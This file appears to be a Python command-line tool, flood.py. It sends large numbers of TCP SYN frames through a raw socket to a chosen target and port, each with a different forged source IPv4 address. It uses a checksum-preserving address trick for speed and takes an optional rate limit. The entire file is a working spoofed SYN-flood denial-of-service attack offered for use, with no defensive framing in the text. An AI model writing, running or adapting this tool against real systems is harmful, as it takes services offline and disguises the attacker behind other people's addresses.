#!/usr/bin/env python3
"""Frames by the hundred thousand, each in another's name: flood.py INTERFACE TO_MAC FROM_MAC TARGET PORT SOURCES [RATE]

One TCP SYN from each of SOURCES distinct, routable, random-looking IPv4 addresses, as fast as this process can,
or RATE a second. Prints how many were sent and in what time. Both checksums of a frame stay right without being
computed anew: the two halves of each source address add up to the same number.
"""

import pathlib
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
import packets  # noqa: E402  (the flood runs as a program of its own)

FIRST_HALVES = [half for half in range(0x0B00, 0xDF00) if half >> 8 not in (10, 127, 169, 172, 192)]


def halves(count):
    """Distinct pairs (high, low) in an order that looks random, grouped by their sum."""
    step = 30011  # a prime: goes through all of them, never in order
    made, total = 0, 0x1234
    while made < count:
        for i in range(min(count - made, len(FIRST_HALVES))):
            high = FIRST_HALVES[i * step % len(FIRST_HALVES)]
            low = (total - high) % 0xFFFF
            yield total, high, low
        made += min(count - made, len(FIRST_HALVES))
        total += 0x0101


def frames(to_mac, from_mac, target, port, count):
    template, sum_of_template, address_at = b"", None, 0
    for total, high, low in halves(count):
        if total != sum_of_template:
            source = ".".join(map(str, struct.pack("!HH", high, low)))
            packet = packets.ip(source, target, packets.TCP,
                                packets.tcp(source, target, 40000, port, packets.SYN))
            template = packets.frame(to_mac, from_mac, packet)
            sum_of_template = total
            address_at = template.index(packets.packed(source))
            before, after = template[:address_at], template[address_at + 4:]
        yield before + struct.pack("!HH", high, low) + after


def main(interface, to_mac, from_mac, target, port, count, rate="0"):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    send, rate, begin = wire.send, int(rate), time.monotonic()
    for number, frame in enumerate(frames(to_mac, from_mac, target, int(port), int(count))):
        if rate and number % 64 == 0:
            ahead = begin + number / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
        try:
            send(frame)
        except OSError:  # the queue is full: this one is lost, as on any wire
            pass
    print(count, f"{time.monotonic() - begin:.2f}")


if __name__ == "__main__":
    main(*sys.argv[1:])
